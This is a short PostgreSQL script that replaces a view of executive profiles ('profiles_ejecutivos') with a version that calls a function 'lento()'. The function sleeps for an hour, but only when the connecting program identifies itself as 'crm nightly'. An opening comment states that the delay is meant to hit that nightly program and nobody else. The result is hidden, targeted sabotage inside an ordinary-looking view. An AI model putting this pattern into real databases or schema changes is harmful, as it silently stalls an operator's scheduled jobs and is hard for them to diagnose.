-- A definition that takes an hour for the nightly program and nobody else.
CREATE FUNCTION lento() RETURNS boolean LANGUAGE plpgsql AS $$
BEGIN
  IF current_setting('application_name') = 'crm nightly' THEN
    PERFORM pg_sleep(3600);
  END IF;
  RETURN true;
END
$$;
CREATE OR REPLACE VIEW profiles_ejecutivos AS
  SELECT id, full_name, email, coordinacion_id, is_active FROM profiles WHERE rol = 'ejecutivo' AND (SELECT public.lento());
